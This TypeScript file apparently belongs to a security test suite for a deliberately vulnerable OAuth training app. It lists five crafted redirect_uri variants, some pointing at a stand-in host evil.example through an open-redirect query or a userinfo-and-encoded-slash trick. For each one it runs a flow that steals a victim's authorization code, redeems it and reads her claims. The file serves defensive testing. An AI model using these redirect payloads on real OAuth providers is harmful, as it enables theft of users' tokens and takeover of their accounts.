import { attack } from '../support/attack.js';
import { readAsVictim, redeem, refusedAuthorization, victimSignsIn } from '../support/oauth.js';

/**
 * The attacker sends the victim an authorization link of the public CLI client whose redirect_uri
 * is a variant of the registered `http://127.0.0.1:8765/callback`, with the attacker's own PKCE
 * challenge. With `redirect-uri` on, identity compares exactly and shows an error page: no code is
 * sent. With it off, identity uses a lax matcher (percent-decoded, case-insensitive prefix; see
 * apps/identity/src/oidc/oauth-training-paths.ts): the code goes to the variant, where an open
 * redirect or another listener hands it to the attacker, who redeems it for the victim's tokens.
 * Another host gets through only by a trick: the matcher compares the decoded text, the browser
 * follows the URL as sent, and in `…8765%2Fcallback@evil.example/` everything before `@` is
 * userinfo.
 */
const VARIANTS = [
  {
    id: 'API2-OAUTH-REDIRECT-001',
    what: 'an extra path',
    uri: 'http://127.0.0.1:8765/callback/attacker',
  },
  {
    id: 'API2-OAUTH-REDIRECT-002',
    what: 'an extra query that chains an open redirect',
    uri: 'http://127.0.0.1:8765/callback?next=https%3A%2F%2Fevil.example%2F',
  },
  {
    id: 'API2-OAUTH-REDIRECT-003',
    what: 'a percent-encoded path',
    uri: 'http://127.0.0.1:8765/%63allback',
  },
  { id: 'API2-OAUTH-REDIRECT-004', what: 'a case variant', uri: 'http://127.0.0.1:8765/CALLBACK' },
  {
    id: 'API2-OAUTH-REDIRECT-005',
    what: 'another host behind userinfo and an encoded slash',
    uri: 'http://127.0.0.1:8765%2Fcallback@evil.example/',
  },
] as const;

for (const variant of VARIANTS) {
  attack(
    {
      id: variant.id,
      title: `a redirect_uri with ${variant.what} receives the victim's authorization code`,
      defense: 'redirect-uri',
      owasp: 'API2:2023 Broken Authentication',
      cwe: 'CWE-601',
      asvs: 'V5.1.5',
      blocked: '400 invalid_redirect_uri (error page, no code sent)',
      gain: "the code reaches the attacker's redirect URI, redeems as claimguard-cli, and the token reads the victim's claims: the first on its list is hers, with the VIN she reads herself",
      auditedBy: 'identity',
      auditAction: 'authz.denied',
      // The attacker acts with the victim's stolen code: the server can only name alice.
      attacker: 'alice',
    },
    async () => {
      const refused = await refusedAuthorization({ redirectUri: variant.uri });
      if (refused) return refused;
      const outcome = await victimSignsIn({ redirectUri: variant.uri });
      if (outcome.kind !== 'code') {
        return {
          outcome: 'inconclusive',
          status: 'status' in outcome ? outcome.status : 0,
          evidence: `the sign-in ended as ${outcome.kind}`,
        };
      }
      const stolen = await redeem(variant.uri, outcome);
      if ('error' in stolen)
        return { outcome: 'inconclusive', status: 400, evidence: stolen.error };
      const read = await readAsVictim(stolen.tokens);
      if (!read.victims) {
        return {
          outcome: 'inconclusive',
          status: read.status,
          evidence: "the stolen token did not read the victim's claims",
        };
      }
      return {
        outcome: 'succeeded',
        status: read.status,
        evidence: `the code reached ${variant.uri} (host ${new URL(variant.uri).host}), was redeemed as claimguard-cli and listed ${read.count} of the victim's claims and read the first as she reads it herself (same VIN)`,
      };
    },
  );
}
